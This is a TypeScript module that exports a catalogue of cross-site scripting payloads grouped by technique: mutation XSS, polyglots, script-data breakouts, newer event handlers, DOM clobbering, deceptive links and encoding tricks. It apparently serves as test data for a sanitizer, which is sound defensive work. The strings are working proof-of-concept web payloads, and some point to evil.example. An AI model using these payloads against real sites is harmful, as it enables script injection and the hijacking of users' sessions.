/** More attacks by kind; each kind is known from public collections, the wording is ours. */
export const attacksByKind: Readonly<Record<string, readonly string[]>> = {
  /** Safe as written, something else once a browser has parsed and serialised it. */
  mutation: [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
    '<form id="a"></form><form><input form="a" name="parentNode"><img src=x onerror=alert(1)></form>',
    '<math><mi><table><mi><mglyph><svg><mtext><style><path id="</style><img src=x onerror=alert(1)>">',
    '<p><svg><title><p title="</title><img src=x onerror=alert(1)>"></title></svg>',
    '<select><template shadowrootmode=open><img src=x onerror=alert(1)></template></select>',
    '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
    '<a id="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>',
    '<p id="<!--"></p><img src="--><script>alert(1)</script>">',
    '<noscript><style></noscript><img src=x onerror=alert(1)></style>',
  ],
  /** One text that breaks out of many places. */
  polyglot: [
    'javascript:/*--></title></style></textarea></script><svg onload="alert(1)">//',
    '\'"--></style></script><svg oNload=alert(1)>',
    '-->\'"/></sCript><svg x=">" onload=(alert)(1)>',
    '";alert(1);//</script><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    '\\";alert(1)//',
    '*/alert(1)/*',
    '`${alert(1)}`',
    '</textarea><script>alert(1)</script>',
    '</title><script>alert(1)</script>',
    '" autofocus onfocus="alert(1)" x="',
    "' onmouseover='alert(1)",
  ],
  /** Out of data that a page carries inside a script. */
  data: [
    '</script><script>alert(1)</script>',
    '</ScRiPt ><img src=x onerror=alert(1)>',
    '<!--<script>alert(1)//',
    '{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}}',
    '"}]}</script><svg onload=alert(1)>',
    '\u2028alert(1)\u2029',
    '\\u003cimg src=x onerror=alert(1)\\u003e',
    ']]></script><!--',
  ],
  /** Handlers that newer browsers know. */
  handlers: [
    '<p popover onbeforetoggle=alert(1)>x</p>',
    '<p onpointerrawupdate=alert(1)>x</p>',
    '<p onscrollend=alert(1) style="overflow:auto">x</p>',
    '<p oncontentvisibilityautostatechange=alert(1) style="content-visibility:auto">x</p>',
    '<p ontransitionrun=alert(1) tabindex=0>x</p>',
    '<a href="https://a.example" onauxclick=alert(1)>x</a>',
    '<li onbeforeinput=alert(1) contenteditable>x</li>',
    '<em onwebkitanimationend=alert(1)>x</em>',
    '<object onbeforeload=alert(1)></object>',
    '<body onhashchange=alert(1)><a href=#x>x</a>',
  ],
  /** Names in the page that scripts take for their own. */
  clobbering: [
    '<form name="cookie"><input name="value"></form>',
    '<a id="banyan"></a><a id="banyan" name="boot" href="https://evil.example">x</a>',
    '<img name="getElementById">',
    '<p id="root" class="modal" role="alert">x</p>',
    '<slot name="default"></slot>',
  ],
  /** Links that lead elsewhere than they say. */
  links: [
    '<a href="https:evil.example">x</a>',
    '<a href="http:\\\\evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="/\t/evil.example">x</a>',
    '<a href="ｊavascript:alert(1)">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="view-source:javascript:alert(1)">x</a>',
    '<a href="jar:https://evil.example!/x">x</a>',
    '<a href="about:blank" target="opener">x</a>',
    '<a href="intent://scan/#Intent;scheme=x;end">x</a>',
  ],
  /** Bytes that one reader skips and another does not. */
  encodings: [
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '<scr\u200bipt>alert(1)</script>',
    '<img src=x on\u00aderror=alert(1)>',
    '\u202e<img src=x onerror=alert(1)>\u202c',
    '<\uff49mg src=x onerror=alert(1)>',
    '&#60;script&#62;alert(1)&#60;/script&#62;',
    '&lt;img src=x onerror=alert(1)&gt;',
    '<img src=x onerror=\\u0061lert(1)>',
    '\ufeff<script>alert(1)</script>',
  ],
};
